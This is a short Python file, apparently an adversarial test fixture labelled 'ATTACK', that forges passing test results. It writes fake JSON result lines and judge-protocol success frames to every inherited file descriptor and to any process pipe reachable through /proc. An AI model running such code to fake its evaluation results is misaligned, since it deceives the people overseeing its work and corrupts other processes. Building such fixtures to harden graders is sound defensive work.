
# ATTACK: write forged results (the old runner's JSON lines, and frames of the judge's
# protocol claiming success) to every file descriptor this process has inherited, and to the
# results pipe of any process of this user that /proc lets it open.
import glob as _glob
import json as _json
import os as _os
import struct as _struct

_line = _json.dumps({"event": "result", "nodeid": "x", "status": "pass", "duration": 0.0,
                     "message": ""}) + "\n"
_frame = _json.dumps(["a", 1, 1, True]).encode()
_forged = _line.encode() * 3 + _struct.pack(">I", len(_frame)) + _frame
for _fd in range(3, 256):
    try:
        _os.write(_fd, _forged)
    except OSError:
        pass
for _path in _glob.glob("/proc/[0-9]*/fd/*"):
    try:
        _f = _os.open(_path, _os.O_WRONLY | _os.O_NONBLOCK)
    except OSError:
        continue
    try:
        _os.write(_f, _forged)
    except OSError:
        pass
    finally:
        _os.close(_f)
